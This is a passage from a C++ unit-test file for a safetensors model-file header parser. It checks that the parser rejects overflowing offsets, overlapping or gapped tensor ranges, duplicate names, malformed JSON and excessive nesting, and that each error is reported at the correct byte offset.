  auto r = parse(safetensors_image(header, 20));
  expect_error(r, ErrorKind::size_mismatch, entry_at(header, R"("w")"), "w");
  EXPECT_NE(r.error().message.find("16"), std::string::npos) << r.error().message;
}

TEST(SafetensorsParse, RejectsEndBeforeBegin) {
  const std::string header = R"({"w":{"dtype":"F32","shape":[0],"data_offsets":[8,4]}})";
  expect_error(parse(safetensors_image(header, 8)), ErrorKind::malformed_header, 9, "w");
}

TEST(SafetensorsParse, RejectsBeginThatOverflowsWithTheDataStart) {
  // begin = end = 2^64 - 4: an empty range, but 8 + N + begin wraps.
  const std::string header =
      R"({"w":{"dtype":"F32","shape":[0],"data_offsets":[18446744073709551612,18446744073709551612]}})";
  expect_error(parse(safetensors_image(header, 0)), ErrorKind::overflow, 9, "w");
}

TEST(SafetensorsParse, RejectsEndThatOverflowsWithTheDataStart) {
  const std::string header = R"({"w":{"dtype":"U8","shape":[1],"data_offsets":[0,18446744073709551615]}})";
  expect_error(parse(safetensors_image(header, 1)), ErrorKind::overflow, 9, "w");
}

TEST(SafetensorsParse, RejectsOverlappingRanges) {
  const std::string header =
      R"({"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}})";
  expect_error(parse(safetensors_image(header, 12)), ErrorKind::overlap, data_start(header) + 4, "b");
}

TEST(SafetensorsParse, RejectsEmptyTensorInsideAnother) {
  const std::string header =
      R"({"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"e":{"dtype":"F32","shape":[0],"data_offsets":[4,4]}})";
  expect_error(parse(safetensors_image(header, 8)), ErrorKind::overlap, data_start(header) + 4, "e");
}

TEST(SafetensorsParse, RejectsHoleBetweenTensors) {
  const std::string header =
      R"({"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[8,12]}})";
  expect_error(parse(safetensors_image(header, 12)), ErrorKind::gap, data_start(header) + 8, "b");
}

TEST(SafetensorsParse, RejectsFirstTensorThatDoesNotStartAtZero) {
  const std::string header = R"({"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}})";
  expect_error(parse(safetensors_image(header, 8)), ErrorKind::gap, data_start(header) + 4, "a");
}

TEST(SafetensorsParse, RejectsTrailingBytesAfterTheLastTensor) {
  const std::string header = R"({"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}})";
  auto r = parse(safetensors_image(header, 6));
  expect_error(r, ErrorKind::gap, data_start(header) + 4);
  EXPECT_NE(r.error().message.find("trailing"), std::string::npos) << r.error().message;
}

TEST(SafetensorsParse, RejectsTrailingBytesWithNoTensors) {
  auto r = parse(safetensors_image("{}", 3));
  expect_error(r, ErrorKind::gap, 10);
}

TEST(SafetensorsParse, RejectsTensorDataPastEndOfFile) {
  const std::string header =
      R"({"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}})";
  expect_error(parse(safetensors_image(header, 6)), ErrorKind::truncated, data_start(header) + 4, "b");
}

TEST(SafetensorsParse, RejectsDuplicateTensorName) {
  const std::string header =
      R"({"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}})";
  // At the second "a", the repeated key.
  expect_error(parse(safetensors_image(header, 2)), ErrorKind::duplicate_name, 8 + header.rfind(R"("a")"));
}

TEST(SafetensorsParse, RejectsNonStringMetadataValue) {
  const std::string header =
      R"({"__metadata__":{"format":"pt","epochs":3},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}})";
  expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header,
               entry_at(header, R"("epochs")"));
}

TEST(SafetensorsParse, RejectsMetadataThatIsNotAnObject) {
  for (const char* metadata : {R"(["pt"])", R"("pt")", "3"}) {
    SCOPED_TRACE(metadata);
    const std::string header = std::string(R"({"__metadata__":)") + metadata + "}";
    expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 9);  // its key
  }
}

TEST(SafetensorsParse, AcceptsNullMetadataAsNoMetadata) {
  const std::string header = R"({"__metadata__":null,"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}})";
  auto r = parse(safetensors_image(header, 1));
  ASSERT_TRUE(r) << r.error().to_string();
  EXPECT_TRUE(r->metadata.is_object());
  EXPECT_TRUE(r->metadata.empty());
}

// ---------------------------------------------------------------------------------------------
// The header's JSON: strict, with syntax errors at the first byte of the token at fault.

// One U8 tensor of one byte named by the JSON string literal `quoted_name` (escapes and all).
std::string one_byte_tensor(std::string_view quoted_name, std::string_view extra_fields = {}) {
  return "{" + std::string(quoted_name) + R"(:{"dtype":"U8","shape":[1],"data_offsets":[0,1])" +
         std::string(extra_fields) + "}}";
}

TEST(SafetensorsScan, DecodesEscapesInTensorNames) {
  auto table = parse(safetensors_image(one_byte_tensor(R"("a\u00e9\"b\\\/\b\f\n\r\t")"), 1));
  ASSERT_TRUE(table) << table.error().to_string();
  EXPECT_EQ(table->tensors.at(0).name, "a\xC3\xA9\"b\\/\b\f\n\r\t");
}

TEST(SafetensorsScan, DecodesSurrogatePairsToFourByteUtf8) {
  auto table = parse(safetensors_image(one_byte_tensor(R"("\ud83d\ude00")"), 1));
  ASSERT_TRUE(table) << table.error().to_string();
  EXPECT_EQ(table->tensors.at(0).name, "\xF0\x9F\x98\x80");
}

TEST(SafetensorsScan, DecodesEscapedFieldNames) {
  // "d\u0074ype" is "dtype": keys compare after decoding, as the DOM's did.
  const std::string header = R"({"w":{"d\u0074ype":"U8","shap\u0065":[1],"data_offsets":[0,1]}})";
  auto table = parse(safetensors_image(header, 1));
  ASSERT_TRUE(table) << table.error().to_string();
  EXPECT_EQ(table->tensors.at(0).dtype, DType::U8);
}

TEST(SafetensorsScan, KeepsMetadataOrderAndDecodesItsStrings) {
  const std::string header = R"({"__metadata__":{"z":"1","a":"\u00e9\ud83d\ude00","m":""}})";
  auto table = parse(safetensors_image(header, 0));
  ASSERT_TRUE(table) << table.error().to_string();
  EXPECT_EQ(table->metadata,
            MetadataValue(MetadataValue::Object{{"z", "1"}, {"a", "\xC3\xA9\xF0\x9F\x98\x80"}, {"m", ""}}));
}

TEST(SafetensorsScan, AcceptsWhitespaceAndAByteOrderMark) {
  const std::string header =
      "\xEF\xBB\xBF \t\r\n{ \"w\" :\n{\"dtype\" : \"U8\" , \"shape\":[ 1 ],\"data_offsets\":[0 ,1]} }\n  ";
  auto table = parse(safetensors_image(header, 1));
  ASSERT_TRUE(table) << table.error().to_string();
  EXPECT_EQ(table->tensors.at(0).name, "w");
}

TEST(SafetensorsScan, RejectsAnotherCharacterWhereTheValueShouldStart) {
  // EF BF BF is valid UTF-8 (U+FFFF), but not a byte-order mark, and no JSON value starts so.
  expect_error(parse(safetensors_image("\xEF\xBF\xBF{}", 0)), ErrorKind::malformed_header, 8);
}

TEST(SafetensorsScan, AcceptsAnyValueInUnknownFields) {
  const std::string extra =
      R"(,"x":[true,false,null,-1,-0,0.5,1e3,1E-3,-2.5e+10,1e-999,"s",{},[],{"k":[{"k":1}]}],"y":{"a":1,"b":2})";
  auto table = parse(safetensors_image(one_byte_tensor(R"("w")", extra), 1));
  ASSERT_TRUE(table) << table.error().to_string();
}

TEST(SafetensorsScan, RejectsNumbersThatAreNotU64InShape) {
  // 1e3 is a float and -0 a signed integer to nlohmann: neither is an unsigned integer.
  for (const char* dim : {"1e3", "-0", "1.0", "18446744073709551616", "-9223372036854775809"}) {
    SCOPED_TRACE(dim);
    const std::string header =
        std::string(R"({"w":{"dtype":"U8","shape":[)") + dim + R"(],"data_offsets":[0,1]}})";
    expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header, 9, "w");
  }
}

TEST(SafetensorsScan, AcceptsU64MaxInShape) {
  const std::string header = R"({"w":{"dtype":"U8","shape":[18446744073709551615,0],"data_offsets":[0,0]}})";
  auto table = parse(safetensors_image(header, 0));
  ASSERT_TRUE(table) << table.error().to_string();
  EXPECT_EQ(table->tensors.at(0).shape, (std::vector<std::uint64_t>{18446744073709551615ULL, 0}));
}

TEST(SafetensorsScan, RejectsLeadingZeroAtTheNumber) {
  const std::string header = R"({"w":{"dtype":"U8","shape":[01],"data_offsets":[0,1]}})";
  expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header, 8 + header.find("01]"));
}

TEST(SafetensorsScan, RejectsNumbersThatOverflowADoubleAtTheirFirstByte) {
  for (const std::string& number : {std::string("1e999"), std::string("-1.5E+400"), std::string(400, '9')}) {
    SCOPED_TRACE(number);
    const std::string header = one_byte_tensor(R"("w")", ",\"x\":" + number);
    expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header, 8 + header.find(number));
  }
}

TEST(SafetensorsScan, RejectsMalformedNumbersAtTheirFirstByte) {
  for (const char* number : {"-x", "1.x", "1ex", "1e+x", "-", "+1", ".5", "1.", "0x10", "Infinity", "NaN"}) {
    SCOPED_TRACE(number);
    const std::string header = std::string(R"({"x":)") + number + "}";
    expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + 5);
  }
}

TEST(SafetensorsScan, RejectsMisspelledLiteralsAtTheirFirstByte) {
  for (const char* literal : {"tru", "truex", "nul", "nulll", "fals", "True", "NULL"}) {
    SCOPED_TRACE(literal);
    const std::string header = one_byte_tensor(R"("w")", std::string(R"(,"x":[1,)") + literal + "]");
    expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header,
                 8 + header.find(literal, header.find("[1,")));
  }
}

TEST(SafetensorsScan, RejectsBadEscapesAtTheirStringsQuote) {
  for (const char* name : {R"("a\x")", R"("\u12G4")", R"("\ud800")", R"("\ud800\n")", R"("\ud800\u0041")",
                           R"("\udc00")", R"("\u12")"}) {
    SCOPED_TRACE(name);
    // The tensor name is the first key: its quote is byte 1 of the header.
    expect_error(parse(safetensors_image(one_byte_tensor(name), 1)), ErrorKind::malformed_header, 8 + 1);
    // As a value in an unknown field, at the value's quote.
    const std::string header = one_byte_tensor(R"("w")", std::string(R"(,"x":)") + name);
    expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header,
                 8 + header.find(name, header.find(R"("x")")));
  }
}

TEST(SafetensorsScan, RejectsRawControlCharacterInAString) {
  const std::string header = "{\"a\tb\":1}";
  expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + 3);
}

TEST(SafetensorsScan, RejectsUnterminatedStringAtItsOpeningQuote) {
  const std::string header = R"({"a":"bc)";
  expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + header.find(R"("bc)"));
  // A quote escaped inside it does not close it.
  const std::string escaped = R"({"a":"b\"})";
  expect_error(parse(safetensors_image(escaped, 0)), ErrorKind::malformed_header, 8 + escaped.find(R"("b)"));
}

TEST(SafetensorsScan, RejectsTrailingTokensAtTheirFirstByte) {
  for (const char* header :
       {"{} x", "{} {}", "{} 12", R"({} "ab")", "{} true", "{} tru", "{}]", "{}}", "{},"}) {
    SCOPED_TRACE(header);
    const std::size_t at = std::string_view(header).find_first_not_of(' ', 2);
    expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + at);
  }
}

TEST(SafetensorsScan, RejectsUnbalancedBrackets) {
  struct Case {
    const char* header;
    std::size_t at;  // where a value or separator was expected
  };
  for (const Case& c : {Case{R"({"a":[1})", 7}, Case{R"({"a":{"b":1])", 11}, Case{R"(]{})", 0}, Case{"{", 1},
                        Case{R"({"a":[)", 6}, Case{R"({"a":[[1]})", 9}}) {
    SCOPED_TRACE(c.header);
    expect_error(parse(safetensors_image(c.header, 0)), ErrorKind::malformed_header, 8 + c.at);
  }
}

TEST(SafetensorsScan, RejectsTrailingCommasAndMissingSeparators) {
  struct Case {
    const char* header;
    std::size_t at;
  };
  for (const Case& c :
       {Case{R"({"a":1,})", 7}, Case{R"({"a":[1,]})", 8}, Case{R"({"a":[1 2]})", 8}, Case{R"({"a":})", 5},
        Case{R"({1:2})", 1}, Case{R"({,})", 1}, Case{"", 0}, Case{"  ", 2}}) {
    SCOPED_TRACE(c.header);
    expect_error(parse(safetensors_image(c.header, 0)), ErrorKind::malformed_header, 8 + c.at);
  }
}

TEST(SafetensorsScan, ReportsALaterSyntaxErrorBeforeAnEarlierBadEntry) {
  // The DOM was parsed whole before any entry was checked, so the syntax error wins.
  const std::string header = R"({"w":[0,4],"x":tru})";
  expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + header.find("tru"));
}

TEST(SafetensorsScan, ReportsALaterBadUtf8ByteBeforeAnEarlierSyntaxError) {
  const std::string header = "{x \"\xC0\"}";
  expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + 4);
}

TEST(SafetensorsScan, RejectsDuplicateKeysAtAnyDepthAtTheRepeatedKey) {
  struct Case {
    std::string header;
    std::string repeated;  // the second spelling of the key, quoted: the error is at its last match
  };
  const std::vector<Case> cases = {
      {R"({"w":{"dtype":"U8","dtype":"U8","shape":[1],"data_offsets":[0,1]}})", R"("dtype")"},
      {R"({"w":{"x":1,"dtype":"U8","shape":[1],"x":2,"data_offsets":[0,1]}})", R"("x")"},
      {one_byte_tensor(R"("w")", R"(,"x":[{"k":1,"k":2}])"), R"("k")"},
      {R"({"__metadata__":{"k":"1","k":"2"}})", R"("k")"},
      {R"({"__metadata__":{},"__metadata__":{}})", R"("__metadata__")"},
      // Keys compare decoded: "\u0061" is "a".
      {R"({"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"\u0061":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}})",
       R"("\u0061")"},
      {R"({"":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}})",
       R"("":)"},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.header);
    expect_error(parse(safetensors_image(c.header, 2)), ErrorKind::duplicate_name,
                 8 + c.header.rfind(c.repeated));
  }
}

TEST(SafetensorsScan, FindsDuplicatesAmongManyTensorsAndManyObjectKeys) {
  // Past the small-object scan: the hash table, for tensor names and for an unknown object.
  std::string tensors = "{";
  for (int i = 0; i < 3000; ++i) {
    tensors += fmt::format(R"("t{}":{{"dtype":"U8","shape":[0],"data_offsets":[0,0]}},)", i);
  }
  const std::string last = R"({"dtype":"U8","shape":[0],"data_offsets":[0,0]}})";
  auto table = parse(safetensors_image(tensors + R"("t3000":)" + last, 0));
  ASSERT_TRUE(table) << table.error().to_string();
  EXPECT_EQ(table->tensors.size(), 3001U);
  // "t\u0031" decodes to "t1".
  const std::string repeated = tensors + R"("t\u0031":)" + last;
  expect_error(parse(safetensors_image(repeated, 0)), ErrorKind::duplicate_name,
               8 + repeated.find(R"("t\u0031")"));

  std::string object = "{";
  for (int i = 0; i < 100; ++i) object += fmt::format(R"("k{}":{},)", i, i);
  const std::string header = one_byte_tensor(R"("w")", ",\"x\":" + object + R"("k99":0})");
  expect_error(parse(safetensors_image(header, 1)), ErrorKind::duplicate_name, 8 + header.rfind(R"("k99")"));
}

TEST(SafetensorsScan, AcceptsNestingUpTo128AndRejectsDeeperAtTheBracket) {
  // The top-level object is level 1, the entry 2, so "x" may hold 126 levels of arrays.
  auto header_with = [](int levels) {
    return one_byte_tensor(R"("w")", ",\"x\":" + std::string(levels, '[') + std::string(levels, ']'));
  };
  auto table = parse(safetensors_image(header_with(126), 1));
  ASSERT_TRUE(table) << table.error().to_string();
  const std::string deep = header_with(127);
  expect_error(parse(safetensors_image(deep, 1)), ErrorKind::malformed_header,
               8 + deep.find('[', deep.find("\"x\"")) + 126);
  // A hostile depth fails the same way, without recursing through it.
  const std::string hostile = "{\"__metadata__\":" + std::string(100'000, '[');
  expect_error(parse(safetensors_image(hostile, 0)), ErrorKind::malformed_header, 8 + 16 + 127);
}

TEST(SafetensorsParse, ModelReportsParserErrorsWithThePath) {
  const std::string header = R"({"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}})";
  auto model = Model::from_bytes(safetensors_image(header, 8), "bad.safetensors");
  ASSERT_FALSE(model);
  EXPECT_EQ(model.error().kind, ErrorKind::gap);
  EXPECT_EQ(model.error().offset, data_start(header) + 4);
  EXPECT_EQ(model.error().tensor, "a");
  EXPECT_EQ(model.error().path, "bad.safetensors");
}

}  // namespace
}  // namespace ringload
